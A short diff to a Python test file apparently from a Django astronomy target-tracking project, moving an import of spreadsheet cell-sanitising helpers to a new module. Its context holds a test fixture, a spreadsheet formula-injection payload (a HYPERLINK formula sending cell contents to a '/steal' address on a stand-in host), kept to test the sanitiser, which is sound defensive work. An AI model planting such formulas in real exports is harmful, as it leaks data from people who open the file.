@@ -15,8 +15,8 @@ from astropy.table import Table
 from django.test import Client
 from django.urls import reverse
 
+from core.spreadsheet import FORMULA_TRIGGERS, restore_cell, safe_cell
 from targets.models import Target
-from tom.spreadsheet import FORMULA_TRIGGERS, restore_cell, safe_cell
 
 # Generated, not stored: what a hostile peer or stream puts in names, extras and photometry columns.
 LINK = '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"Click for details")'
